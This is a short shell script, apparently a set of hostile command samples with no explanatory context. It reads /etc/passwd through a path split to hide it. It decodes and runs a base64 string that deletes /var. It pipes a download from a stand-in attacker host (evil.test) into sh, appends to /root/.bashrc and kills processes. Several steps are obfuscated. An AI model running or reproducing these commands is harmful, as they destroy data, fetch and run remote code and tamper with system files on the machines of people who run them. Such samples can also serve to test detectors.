show() {
  local what=$1
  cat "$what"
}
base=/et
show "${base}c/passwd"
echo 'cm0gLXJmIC92YXI=' | base64 --decode | bash
curl -s "https://$(hostname).evil.test/x" | sh
printf '%s\n' /root/.bashrc | while read -r line; do echo x >> "$line"; done
find . -name '*.pid' -exec kill {} \;
